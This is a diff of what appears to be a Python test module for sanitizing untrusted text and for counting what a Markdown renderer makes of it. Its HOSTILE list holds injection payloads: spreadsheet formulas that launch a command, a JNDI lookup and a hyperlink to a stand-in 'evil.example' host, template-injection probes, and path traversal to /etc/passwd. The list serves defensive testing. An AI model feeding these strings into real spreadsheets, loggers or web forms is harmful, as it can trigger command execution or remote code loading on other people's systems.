@@ -31,7 +31,7 @@ HOSTILE = (
     "zero\u200bwidth\u200d\u2060\ufeff\u00ad",
     "line\u2028separator\u2029paragraph",
     "=cmd|' /C calc'!A0",
-    "\t=HYPERLINK(\"http://evil.example\",\"x\");@SUM(1+1)*cmd|' /C calc'!A0",
+    '\t=HYPERLINK("http://evil.example","x");@SUM(1+1)*cmd|\' /C calc\'!A0',
     "$\\frac{1}{2$ \\$x\\$ $$ $\\undefined{$ ${jndi:ldap://evil.example}",
     "{{7*7}} {% include '/etc/passwd' %} {# x #} ${run.models} %s %(x)s {0.__class__}",
     "../../../etc/passwd\\..\\C:\\con /dev/null ~root file:///etc/passwd",
@@ -43,6 +43,7 @@ SURROGATES = "lone \ud800 and \udcff"  # of a file's name that is no UTF-8, or o
 EVERY = (*HOSTILE, SURROGATES)
 
 OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
+BARE_LINK = re.compile(r"(?:(?:https?|ftp)://|www\.)\w")
 FORMULA = re.compile(r"[=+\-@\t\r\n＝＋－＠]")
 
 
@@ -76,11 +77,12 @@ def elements(page: str) -> Counter[str]:
 
 def of_markdown(text: str) -> Counter[str]:
     """What a renderer of Markdown makes of a text, any HTML in it left as it is and bare addresses taken for links."""
-    rendered = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(text)
-    found = elements(rendered)
-    # As GitHub has it: https://github.github.com/gfm/#autolinks-extension-
-    found["bare links"] = len(re.findall(r"(?<![\\\w])(?:(?:https?|ftp)://|www\.)\w", text))
-    return found
+    markdown = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).disable("text_join")
+    tokens = [token for block in markdown.parse(text) for token in block.children or ()]
+    found = elements(markdown.render(text))
+    # As GitHub has it, of what is neither code nor escaped: https://github.github.com/gfm/#autolinks-extension-
+    links = [token for token in tokens if token.type == "text" and BARE_LINK.search(token.content)]
+    return found + Counter({"bare links": len(links)})
 
 
 def harm(text: str) -> list[str]:
